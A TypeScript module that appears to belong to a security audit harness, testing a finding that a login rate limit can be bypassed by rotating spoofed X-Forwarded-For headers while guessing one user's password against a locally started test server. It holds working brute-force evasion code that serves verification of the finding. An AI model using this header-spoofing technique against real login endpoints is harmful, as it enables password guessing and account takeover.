/**
 * Finding 3: behind TRUST_PROXY the login rate limit is keyed on the leftmost X-Forwarded-For, which
 * the client writes, and nothing limits guesses per username.
 */
import { http } from './http.js';
import { type Attack, probe, type Row, tally } from './lib.js';
import { type ServerHandle, startServer } from './server.js';
import { registerUser } from './users.js';

const FINDING = '3 login limits';
const GUESSES = 60;

/** 60 wrong-password logins on one user, the i-th with `forwardedFor(i)`; the statuses in order. */
async function guess(server: ServerHandle, forwardedFor: (i: number) => string) {
  const victim = await registerUser(server, 'victim');
  const statuses: number[] = [];
  for (let i = 0; i < GUESSES; i++) {
    const reply = await http(server, 'POST', '/api/users/login', {
      body: { username: victim.username, password: `wrong password ${i}` },
      headers: { 'x-forwarded-for': forwardedFor(i) },
    });
    statuses.push(reply.status);
  }
  const first429 = statuses.indexOf(429);
  const counts = tally(statuses);
  return {
    outcome: `${counts['401'] ?? 0} × 401, ${counts['429'] ?? 0} × 429${first429 >= 0 ? ` (first 429 at guess ${first429 + 1})` : ''}; all: ${JSON.stringify(counts)}`,
    figures: { statuses: counts, first429: first429 >= 0 ? first429 + 1 : null },
  };
}

export const attack: Attack = {
  name: 'login-limits',
  async run(repo) {
    const rows: Row[] = [];
    // The login limits at their defaults, not the harness's set-up values.
    const server = await startServer(repo, {
      atDefault: ['AUTH_RATE_LIMIT', 'FAILED_LOGIN_LIMIT'],
      env: { TRUST_PROXY: 'true' },
    });
    await probe(
      rows,
      FINDING,
      `TRUST_PROXY=true, AUTH_RATE_LIMIT default: ${GUESSES} wrong-password logins on one username, each with a different X-Forwarded-For (10.0.0.i)`,
      () => guess(server, (i) => `10.0.${Math.floor(i / 250)}.${(i % 250) + 1}`),
    );
    await probe(
      rows,
      FINDING,
      `same, on another username, X-Forwarded-For "10.1.0.i, 198.51.100.7" (spoofed left part, fixed last hop as a proxy appends)`,
      () => guess(server, (i) => `10.1.${Math.floor(i / 250)}.${(i % 250) + 1}, 198.51.100.7`),
    );
    await server.stop();
    return rows;
  },
};
